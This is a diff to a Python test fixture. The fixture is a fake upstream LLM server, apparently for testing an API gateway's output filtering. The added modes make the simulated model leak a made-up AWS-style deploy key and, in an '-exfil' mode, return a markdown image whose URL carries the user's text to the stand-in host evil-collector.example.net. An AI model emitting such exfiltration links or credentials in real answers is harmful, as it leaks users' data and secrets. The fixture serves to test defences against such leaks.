@@ -17,6 +17,24 @@ from typing import Any
 from aiohttp import web
 
 ANSWER_PREFIX = "upstream says: "
+# A credential the answer introduces (never in any prompt), then enough words to keep streaming.
+LEAKED_KEY = "AKIAQ3XW7RZP5KTN2M4B"
+LEAK_TEXT = "Sure. The deploy key is " + LEAKED_KEY + " and " + " ".join(["more"] * 120)
+EXFIL_DOMAIN = "evil-collector.example.net"
+
+
+def answer_text(model: str, user_text: str) -> str:
+    if model.endswith("-leak"):
+        return LEAK_TEXT
+    if model.endswith("-exfil"):
+        return f"Done. ![status](https://{EXFIL_DOMAIN}/c.png?d={user_text.replace(' ', '+')})"
+    return ANSWER_PREFIX + user_text
+
+
+def _tool_arguments(model: str, user_text: str) -> str:
+    if model.endswith("-toolecho"):
+        return json.dumps({"query": user_text})
+    return '{"city": "Paris"}'
 
 
 def _last_user_text(messages: list[dict[str, Any]]) -> str:
@@ -118,11 +136,12 @@ class FakeUpstream:
         model = str(body["model"])
         if (bad := await self._misbehave(model)) is not None:
             return bad
-        text = ANSWER_PREFIX + _last_user_text(body["messages"])
+        user_text = _last_user_text(body["messages"])
+        text = answer_text(model, user_text)
         n = int(body.get("n") or 1)
-        tools = model.endswith("-tools")
+        tools = model.endswith(("-tools", "-toolecho"))
         if body.get("stream"):
-            return await self._openai_stream(request, body, text, tools)
+            return await self._openai_stream(request, body, text, tools, user_text)
         choices = []
         for i in range(n):
             message: dict[str, Any] = {"role": "assistant", "content": None if tools else text}
@@ -131,7 +150,10 @@ class FakeUpstream:
                     {
                         "id": "call_abc123",
                         "type": "function",
-                        "function": {"name": "get_weather", "arguments": '{"city": "Paris"}'},
+                        "function": {
+                            "name": "get_weather",
+                            "arguments": _tool_arguments(model, user_text),
+                        },
                     }
                 ]
             choices.append(
@@ -149,7 +171,7 @@ class FakeUpstream:
         )
 
     async def _openai_stream(
-        self, request: web.Request, body: dict[str, Any], text: str, tools: bool
+        self, request: web.Request, body: dict[str, Any], text: str, tools: bool, user_text: str
     ) -> web.StreamResponse:
         model = str(body["model"])
         response = web.StreamResponse(headers={"content-type": "text/event-stream"})
@@ -178,7 +200,8 @@ class FakeUpstream:
                 return response
             if tools:
                 first = {"index": 0, "id": "call_abc123", "type": "function"}
-                pieces = ['{"ci', 'ty": "Pa', 'ris"}']
+                arguments = _tool_arguments(model, user_text)
+                pieces = [arguments[i : i + 5] for i in range(0, len(arguments), 5)]
                 await send(
                     {
                         "choices": [
@@ -201,10 +224,15 @@ class FakeUpstream:
                     await send({"choices": [{"index": 0, "delta": delta}]})
                 finish = "tool_calls"
             else:
-                for word in text.split(" "):
-                    await send({"choices": [{"index": 0, "delta": {"content": word + " "}}]})
-                    if self.stream_delay:
-                        await asyncio.sleep(self.stream_delay)
+                delay = 0.01 if model.endswith("-leak") else self.stream_delay
+                if model.endswith("-chars"):  # tiny chunks split placeholders anywhere
+                    pieces = [text[i : i + 3] for i in range(0, len(text), 3)]
+                else:
+                    pieces = [word + " " for word in text.split(" ")]
+                for piece in pieces:
+                    await send({"choices": [{"index": 0, "delta": {"content": piece}}]})
+                    if delay:
+                        await asyncio.sleep(delay)
                 finish = "stop"
             await send({"choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})
             if (body.get("stream_options") or {}).get("include_usage"):
@@ -212,8 +240,7 @@ class FakeUpstream:
                 await send({"choices": [], "usage": usage})
             await response.write(b"data: [DONE]\n\n")
         except (ConnectionResetError, asyncio.CancelledError):
-            self.disconnects.append(model)
-            raise
+            self.disconnects.append(model)  # the gateway hung up on us
         return response
 
     async def _openai_embeddings(self, request: web.Request) -> web.StreamResponse:
@@ -238,7 +265,7 @@ class FakeUpstream:
         model = str(body["model"])
         if (bad := await self._misbehave(model)) is not None:
             return bad
-        text = ANSWER_PREFIX + _last_user_text(body["messages"])
+        text = answer_text(model, _last_user_text(body["messages"]))
         tools = model.endswith("-tools")
         if body.get("stream"):
             return await self._anthropic_stream(request, model, text, tools)
